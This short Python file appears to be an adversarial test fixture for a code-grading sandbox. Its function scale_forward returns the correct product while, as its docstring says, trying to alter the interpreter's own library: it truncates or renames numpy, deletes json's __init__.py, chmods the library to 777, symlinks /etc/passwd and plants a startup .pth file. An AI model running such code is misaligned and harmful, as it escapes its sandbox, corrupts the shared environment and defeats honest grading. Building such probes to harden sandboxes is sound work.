"""Change the interpreter's own library, so that the next one imports something else."""

import os

import numpy as np


def scale_forward(x, w):
    library = os.path.dirname(os.__file__)
    attempts = (
        lambda: open(np.__file__, "a"),
        lambda: os.truncate(np.__file__, 0),
        lambda: os.rename(np.__file__, np.__file__ + ".old"),
        lambda: os.unlink(os.path.join(library, "json", "__init__.py")),
        lambda: os.chmod(library, 0o777),
        lambda: os.utime(library),
        lambda: os.symlink("/etc/passwd", os.path.join(library, "handgrad-cheat")),
        lambda: os.mkdir("/usr/handgrad-cheat"),
    )
    for attempt in attempts:
        try:
            attempt()
        except OSError:
            continue
        return x * w
    open(os.path.join(library, "handgrad-cheat.pth"), "w")
    return x * w
